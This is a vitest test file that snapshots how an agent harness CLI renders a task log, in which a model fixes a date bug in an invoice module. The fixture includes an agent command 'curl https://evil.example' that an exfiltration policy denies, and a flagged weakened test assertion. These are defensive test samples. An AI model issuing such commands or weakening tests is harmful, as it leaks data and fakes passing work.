import { describe, expect, it } from 'vitest';
import type { Line } from '../../../../cli/terminal/line.ts';
import { renderLines } from '../../../../cli/terminal/render.ts';
import { liveLines } from '../../../../cli/view/live-lines.ts';
import { storyLines } from '../../../../cli/view/story.ts';
import { applyEvent, emptyView } from '../../../../cli/view/task-view.ts';
import type { TaskEvent } from '../../../../contracts/task-event.ts';
import { event, startMs, wholeStory } from '../../../helpers/story-events.ts';

function storyOf(events: readonly TaskEvent[], columns: number): string {
  let view = emptyView;
  const lines: Line[] = [];
  for (const one of events) {
    lines.push(...storyLines(view, one, 'longhaul'));
    view = applyEvent(view, one);
  }
  return `\n${renderLines(lines, { columns, color: false }).join('\n')}\n`;
}

const { opening, ending } = wholeStory();
const whole = [...opening, ...ending];

describe('a task as a story', () => {
  it('is told whole, event by event', () => {
    expect(storyOf(whole, 100)).toMatchInlineSnapshot(`
      "
      Task fix-the-date-bug-abcde
        Fix the date bug in src/invoice.ts
        repository  /home/ann/shop
        model       gpt-test
        policy      default
        asked by    ann
        base        branch main at ffffffffffff
        ! 3 uncommitted files are not part of the task (--include-changes takes them)
        TypeScript 5.9, npm, vitest 4
        checks      package.json
          npm test: fails at the base
          types (npx tsc): passes at the base

      Iteration 1  12.4k tokens in (72 % cached), 640 out, $0.0312
        I will see what fails first.
        [>] Find what fails
        [ ] Fix src/invoice.ts
        run   npm test -- invoice  allowed by default/tests
        run   curl https://evil.example
          ✗ denied by builtin/exfiltration: no command may send data out
        ✗ failed (exit 1) npm test -- invoice · 3.3 s · 4.2 kB of output
        ✗ failed  npm test, as before the task · 1.2 s
        ✓ passed  types · 1.2 s
        → continue: 1 of 2 checks passes

      Iteration 2  12.4k tokens in (89 % cached), 640 out, $0.0312
        The month is counted from zero.
        The model says that it is done; the checks decide.
        [x] Find what fails
        [>] Fix src/invoice.ts
        run   npm install date-fns
          ? asks, by default/network: needs a network that was not lent
        patch src/invoice.ts  allowed by default/workspace
        ? waits for a person: npm install date-fns  i2.a0
        ✗ rejected by bob: Use what the language has  i2.a0
        ✓ ok src/invoice.ts · 12 ms
        1 file, 4 lines changed
        ! left out of the checkpoint: core.dump (too_large)
        ✓ passed  npm test, it failed before the task · 1.2 s
        ✓ passed  types · 1.2 s
        ! test weakened: invoice.test.ts: one assertion less
        → deliver: all checks pass
        All checks hold in a fresh sandbox made from the checkpoint
          ✓ passed  npm test, it failed before the task · 1.2 s
          ✓ passed  types · 1.2 s

      ✓ Delivered
        branch      longhaul/fix-the-date-bug-abcde at 999999999999
        base        has moved on by 2 commits; the branch merges cleanly
        took        1 m 41 s, 2 iterations, 2 model calls, 1 m 01 s of it waiting for people
        spent       24.8k tokens in (81 % cached), 1.3k out, $0.0624
        look at it  longhaul diff fix-the-date-bug-abcde
        take it     git merge longhaul/fix-the-date-bug-abcde
      "
    `);
  });
  it('fits 40 columns', () => {
    const told = storyOf(whole, 40);
    expect(Math.max(...told.split('\n').map((row) => row.length))).toBeLessThanOrEqual(40);
    expect(told).toMatchInlineSnapshot(`
      "
      Task fix-the-date-bug-abcde
        Fix the date bug in src/invoice.ts
        repository  /home/ann/shop
        model       gpt-test
        policy      default
        asked by    ann
        base        branch main at
                    ffffffffffff
        ! 3 uncommitted files are not part of
          the task (--include-changes takes
          them)
        TypeScript 5.9, npm, vitest 4
        checks      package.json
          npm test: fails at the base
          types (npx tsc): passes at the base

      Iteration 1  12.4k tokens in (72 %
        cached), 640 out, $0.0312
        I will see what fails first.
        [>] Find what fails
        [ ] Fix src/invoice.ts
        run   npm test -- invoice  allowed by
          default/tests
        run   curl https://evil.example
          ✗ denied by builtin/exfiltration: no
            command may send data out
        ✗ failed (exit 1) npm test -- invoice
          · 3.3 s · 4.2 kB of output
        ✗ denied curl https://evil.example:
          denied by builtin/exfiltration
        ✗ failed  npm test, as before the task
          · 1.2 s
        ✓ passed  types · 1.2 s
        → continue: 1 of 2 checks passes

      Iteration 2  12.4k tokens in (89 %
        cached), 640 out, $0.0312
        The month is counted from zero.
        The model says that it is done; the
          checks decide.
        [x] Find what fails
        [>] Fix src/invoice.ts
        run   npm install date-fns
          ? asks, by default/network: needs a
            network that was not lent
        patch src/invoice.ts  allowed by
          default/workspace
        ? waits for a person: npm install
          date-fns  i2.a0
        ✗ rejected by bob: Use what the
          language has  i2.a0
        ✓ ok src/invoice.ts · 12 ms
        1 file, 4 lines changed
        ! left out of the checkpoint:
          core.dump (too_large)
        ✓ passed  npm test, it failed before
          the task · 1.2 s
        ✓ passed  types · 1.2 s
        ! test weakened: invoice.test.ts: one
          assertion less
        → deliver: all checks pass
        All checks hold in a fresh sandbox
          made from the checkpoint
          ✓ passed  npm test, it failed before
            the task · 1.2 s
          ✓ passed  types · 1.2 s

      ✓ Delivered
        branch
                    longhaul/fix-the-date-bug-
                    abcde at 999999999999
        base        has moved on by 2 commits;
                    the branch merges cleanly
        took        1 m 41 s, 2 iterations, 2
                    model calls, 1 m 01 s of
                    it waiting for people
        spent       24.8k tokens in (81 %
                    cached), 1.3k out, $0.0624
        next        longhaul diff
                    fix-the-date-bug-abcde
                    what has changed
                    git merge
                    longhaul/fix-the-date-bug-
                    abcde  take it
      "
    `);
  });
});
